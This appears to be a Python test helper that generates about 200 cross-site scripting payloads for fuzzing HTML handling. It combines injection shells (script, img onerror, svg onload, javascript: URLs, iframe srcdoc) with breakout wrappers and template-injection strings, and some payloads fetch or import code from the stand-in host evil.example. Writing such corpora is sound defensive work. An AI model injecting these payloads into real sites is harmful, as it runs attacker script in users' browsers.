"""200 texts that would run a script if a page took them for markup."""

SCRIPTS = ("window.pwned=1", "alert(1)", "fetch('//evil.example/x')", "import('//evil.example/x')")
SHELLS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}'>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}></style></mglyph></math>",
    "<template><script>{}</script></template>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<style>@import 'javascript:{}'</style>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<base href='//evil.example/'><script>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<x onpointerenter={} style='position:fixed;inset:0'>",
    "<button popovertarget=p onbeforetoggle={}>x</button><div popover id=p>",
    "<custom-element is={}>",
)
WRAPS = ("{}", '">{}', "'>{}", "</textarea>{}", "</script>{}", "--><!--{}", "]]>{}", "`;{}//")
PLAIN = (
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "${{window.pwned=1}}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "\u202ereversed\u202c",
    "\u0000nul",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
)


def hostile_texts() -> list[str]:
    made = [
        wrap.format(shell.format(SCRIPTS[(row + column) % len(SCRIPTS)]))
        for row, shell in enumerate(SHELLS)
        for column, wrap in enumerate(WRAPS)
    ]
    return [*made, *PLAIN]
